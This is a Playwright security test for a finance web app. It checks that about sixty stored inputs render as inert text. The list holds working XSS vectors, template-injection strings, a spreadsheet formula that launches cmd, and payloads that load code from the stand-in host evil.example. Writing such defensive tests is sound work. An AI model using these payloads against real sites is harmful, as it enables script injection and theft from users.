import { expect, test } from '@playwright/test'

/** Ways in which text has become code elsewhere. Each calls `hit` if it ever runs. */
const call = 'window.hit=1'
const payloads = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `"><img src=x onerror="${call}">`,
  `<img src="x" onerror=&#119;indow.hit=1>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>parent.hit=1</script>">`,
  `<iframe src="javascript:parent.hit=1">`,
  `<a href="javascript:${call}">x</a>`,
  `javascript:${call}`,
  `data:text/html,<script>parent.hit=1</script>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<video><source onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action=//evil.example><button>x</button></form>`,
  `<object data="javascript:parent.hit=1">`,
  `<embed src="javascript:parent.hit=1">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `[[${call}]]`,
  `';${call};//`,
  `";${call};//`,
  `\`;${call};//`,
  `\\";${call};//`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<!--<img src="--><img src=x onerror=${call}>`,
  `<div style="width:expression(${call})">`,
  `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x:x onerror\x3d${call}>`,
  `<a href="&#x6A;avascript:${call}">x</a>`,
  `=HYPERLINK("javascript:${call}","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
]

test('sixty hostile texts, in every field and file, are shown as text and run nowhere', async ({ page, request }) => {
  const broken: string[] = []
  page.on('dialog', (d) => {
    broken.push(`dialog: ${d.message()}`)
    void d.dismiss()
  })
  page.on('pageerror', (e) => broken.push(String(e)))
  page.on('console', (m) => {
    if (/content security policy|refused to/i.test(m.text())) broken.push(m.text())
  })
  page.on('request', (r) => {
    if (r.url().includes('evil.example')) broken.push(`request: ${r.url()}`)
  })
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      console.error(`content security policy: ${e.violatedDirective} ${e.sample}`),
    )
  })

  const secret = 'a long enough password'
  const account = {
    email: `hostile.${Date.now()}@example.com`,
    firstName: payloads[0],
    lastName: payloads[8],
    password: secret,
    confirmPassword: secret,
  }
  expect((await request.post('/api/auth/signup', { data: account })).status()).toBe(201)
  const signedIn = await request.post('/api/auth/login', { data: { email: account.email, password: secret } })
  expect(signedIn.status()).toBe(200)
  await page.context().addCookies((await request.storageState()).cookies)
  const made = async (path: string, data: object) => {
    const answer = await request.post(path, { data })
    expect([path, answer.status(), answer.status() === 201 ? '' : await answer.text()]).toEqual([path, 201, ''])
    return answer.json()
  }
  for (const [i, text] of payloads.entries()) {
    const name = `${i} ${text}`.slice(0, 100)
    const entity = i < 12 ? (await made('/api/entities', { name, entityType: 'business', description: text })).id : null
    await made('/api/transactions', {
      description: text,
      amount: '1.00',
      transactionDate: '2024-03-01',
      category: i % 2 ? 'travel' : 'uncategorised_expense',
      sourceName: text.slice(0, 100),
      sourceType: 'bank_account',
      entityId: entity,
    })
    if (i < 8) {
      await made('/api/reports', { title: text, reportPeriod: text.slice(0, 50), startDate: '2024-03-01', endDate: '2024-03-31' })
      await made('/api/shareable-links', { description: text, expiresAt: '' })
    }
  }
  const csv = `Date,Description,Amount\n${payloads.map((p) => `2024-03-04,"${p.replaceAll('"', '""')}",-2.00`).join('\n')}\n`
  const slot = await (await request.get('/api/object-storage/generate-upload-url')).json()
  expect((await request.put(slot.url, { data: Buffer.from(csv), headers: { 'content-type': 'text/csv' } })).status()).toBe(200)
  const { document } = await made('/api/documents/upload', { filename: slot.filename, originalName: `${payloads[9]}.csv` })
  await expect
    .poll(async () => (await (await request.get(`/api/documents/${document.id}`)).json()).isProcessed, { timeout: 120_000 })
    .toBe(true)
  const link = (await (await request.get('/api/shareable-links')).json())[0]

  const places = ['/dashboard', '/documents', `/documents/${document.id}`, '/transactions', '/review', '/entities', '/reports', '/sharing']
  for (const path of [...places, `/upload/${link.token}`]) {
    await page.goto(path)
    await expect(page.getByRole('heading').first()).toBeVisible()
    await page.waitForLoadState('networkidle')
    expect(await page.evaluate(() => 'hit' in window), path).toBe(false)
    expect(await page.locator('main script, main iframe, main object, main embed, main base').count(), path).toBe(0)
  }
  await page.goto('/transactions?search=onbegin')
  await expect(page.getByText(payloads[13] ?? '').first()).toBeVisible()
  expect(broken).toEqual([])
})
